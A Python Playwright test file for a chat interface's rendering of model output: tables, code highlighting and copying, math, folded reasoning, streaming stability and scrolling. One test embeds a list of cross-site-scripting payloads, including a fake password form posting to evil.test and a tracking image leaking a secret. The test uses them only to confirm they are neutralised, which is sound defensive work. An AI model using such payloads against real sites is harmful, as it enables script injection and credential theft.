"""What models write, shown as it is meant, and never run."""

import re

import pytest
from playwright.sync_api import expect

TABLE = "| Animal | Height |\n| --- | ---: |\n| Llama | 1.8 m |\n| Alpaca | 0.9 m |\n"
CODE = "```python\ndef add(a, b):\n    return a + b\n```\n"


def test_tables_lists_tasks_and_links_are_shown(open_chat, scripted):
    scripted.text = f"## Camelids\n\n{TABLE}\n- [x] done\n- [ ] open\n\n~~old~~ [a link](https://example.com/page)\n"
    chat = open_chat()
    chat.asked("Show me.")
    expect(chat.text.get_by_role("heading", name="Camelids")).to_be_visible()
    table = chat.text.get_by_role("table")
    expect(table.get_by_role("columnheader")).to_have_text(["Animal", "Height"])
    expect(table.get_by_role("cell")).to_have_text(["Llama", "1.8 m", "Alpaca", "0.9 m"])
    expect(chat.text.get_by_role("listitem")).to_have_text([re.compile("done"), re.compile("open")])
    link = chat.text.get_by_role("link", name="a link")
    expect(link).to_have_attribute("href", "https://example.com/page")
    expect(link).to_have_attribute("rel", re.compile("noopener"))


def test_code_is_coloured_and_copied(open_chat, scripted):
    scripted.text = f"Here:\n\n{CODE}"
    chat = open_chat(permissions=["clipboard-read", "clipboard-write"])
    chat.asked("Show me code.")
    block = chat.text.get_by_role("figure")
    expect(block).to_contain_text("python")
    expect(block.locator("code span span").first).to_be_visible()
    colours = block.locator("code span").evaluate_all(
        "(all) => [...new Set(all.map((one) => getComputedStyle(one).color))]")
    assert len(colours) > 1
    block.get_by_role("button", name="Copy code").click()
    expect(block.get_by_role("status")).to_have_text("Copied")
    assert chat.page.evaluate("navigator.clipboard.readText()") == "def add(a, b):\n    return a + b"


def test_formulas_are_drawn(open_chat, scripted):
    scripted.text = "Inline $e^{i\\pi} + 1 = 0$ and\n\n$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$\n\n" \
        "and \\(a^2\\), but $5 and $6 are prices."
    chat = open_chat()
    chat.asked("Mathematics?")
    expect(chat.text.locator("math")).to_have_count(3)
    expect(chat.text).to_contain_text("$5 and $6 are prices.")
    # Drawn with its own letters, not only named for screen readers.
    chat.page.wait_for_function(
        "() => [...document.fonts].some(({ family, status }) => /KaTeX/.test(family) && status === 'loaded')")


def test_thoughts_are_folded(open_chat, scripted):
    chat = open_chat()
    slow = scripted.slowly().say("<think>\nThe user wants").say(" a number.")
    chat.ask("A number?")
    thought = chat.answer.get_by_text("Thinking…")
    expect(thought).to_be_visible()
    slow.say("\n</think>\n\n").say("Seven.").end()
    chat.finished()
    expect(chat.text).to_have_text("Seven.")
    expect(chat.answer.get_by_text("The user wants a number.")).to_be_hidden()
    chat.answer.get_by_text("Thoughts").click()
    expect(chat.answer.get_by_text("The user wants a number.")).to_be_visible()


ATTACKS = """
<script>window.attacked = 1</script>
<img src=x onerror="window.attacked = 2">
<svg onload="window.attacked = 3"><a xlink:href="javascript:window.attacked=4"><text>svg</text></a></svg>
<iframe src="javascript:parent.attacked = 5"></iframe>

[click](javascript:window.attacked=6) [data](data:text/html,<script>window.attacked=7</script>)
<a href="&#106;avascript:window.attacked=8">entity</a>

<form action="https://evil.test/"><input name="password"><button>Sign in</button></form>
<style>body { display: none }</style>
<div onclick="window.attacked = 9" style="position: fixed; inset: 0">over everything</div>

![a picture](https://images.test/track.png?what=secret) ![a rule](//images.test/other.png)

$\\href{javascript:window.attacked=10}{x}$ $\\includegraphics{https://images.test/k.png}$

```html"><img src=x onerror=window.attacked=11>
<img src=x onerror=window.attacked=12>
```

The end.
"""


@pytest.mark.parametrize("place", ["answer", "question", "title"])
def test_nothing_that_is_written_can_run_load_or_cover_the_page(site, open_chat, scripted, place):
    scripted.text = ATTACKS if place == "answer" else "All right."
    chat = open_chat()
    foreign = []
    chat.page.on("request", lambda request: foreign.append(request.url) if not request.url.startswith(
        (site.url, "data:", "blob:")) else None)
    chat.asked({"answer": "Attack!", "question": ATTACKS, "title": "<img src=x onerror=window.attacked=13>"}[place])
    if place == "answer":
        expect(chat.text).to_contain_text("The end.")
        # The picture is named, and can be opened by whoever wants to.
        expect(chat.text.get_by_role("link", name="a picture")).to_be_visible()
    for link in chat.conversation.locator("a[href]").all():
        assert re.match(r"https?://", link.get_attribute("href")), link.get_attribute("href")
    assert chat.conversation.locator("script, style, iframe, form, input, object, embed").count() == 0
    for link in chat.text.locator("a").all():
        link.dispatch_event("click", {"button": 0, "ctrlKey": False, "cancelable": True})
    chat.page.reload()
    chat.finished()
    assert chat.page.evaluate("window.attacked") is None
    assert [url for url in foreign if "images.test" in url] == []
    # Nothing lies over the page.
    chat.composer.click(trial=True)


def test_finished_blocks_stay_the_same_while_the_answer_grows(open_chat, scripted):
    chat = open_chat()
    slow = scripted.slowly()
    slow.say(f"# A heading\n\nA **first** paragraph.\n\n{TABLE}\n{CODE}\n$$x^2$$\n\nThe second paragraph begins")
    chat.ask("Write a lot.")
    expect(chat.text).to_contain_text("The second paragraph begins")
    expect(chat.text.locator("math")).to_have_count(1)
    expect(chat.text.get_by_role("figure").locator("code span span").first).to_be_visible()
    chat.text.evaluate("""(text) => {
        const finished = [...text.children].slice(0, -1)
        window.kept = finished.flatMap((block) => [block, ...block.querySelectorAll("*")])
        window.changes = 0
        const observer = new MutationObserver((records) => { window.changes += records.length })
        for (const block of finished) observer.observe(block, { childList: true, subtree: true, characterData: true })
    }""")
    for number in range(400):
        slow.say(f" word{number}" + ("\n\n" if number % 50 == 49 else ""))
    slow.say("\n\nThe end.").end()
    chat.finished()
    expect(chat.text).to_contain_text("word399")
    kept, connected, changes = chat.page.evaluate(
        "[kept.length, kept.filter((one) => one.isConnected).length, changes]")
    assert kept > 20 and connected == kept and changes == 0


def test_whoever_reads_further_up_is_not_moved(open_chat, scripted):
    chat = open_chat(height=600)
    slow = scripted.slowly()
    for number in range(60):
        slow.say(f"Paragraph {number}.\n\n")
    chat.ask("Write a lot.")
    expect(chat.text).to_contain_text("Paragraph 59.")
    place = chat.text.get_by_text("Paragraph 30.")
    # At the end as long as nobody leaves it.
    expect(chat.text.get_by_text("Paragraph 59.")).to_be_in_viewport()
    chat.conversation.hover()
    while not place.evaluate("(one) => one.getBoundingClientRect().top > 100"):
        chat.page.mouse.wheel(0, -300)
        chat.page.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    expect(chat.page.get_by_role("button", name="Jump to the latest")).to_be_visible()
    before = place.bounding_box()["y"]
    for number in range(60, 100):
        slow.say(f"Paragraph {number}.\n\n")
    slow.end()
    chat.finished()
    assert abs(place.bounding_box()["y"] - before) < 2
    chat.page.get_by_role("button", name="Jump to the latest").click()
    expect(chat.text.get_by_text("Paragraph 99.")).to_be_in_viewport()
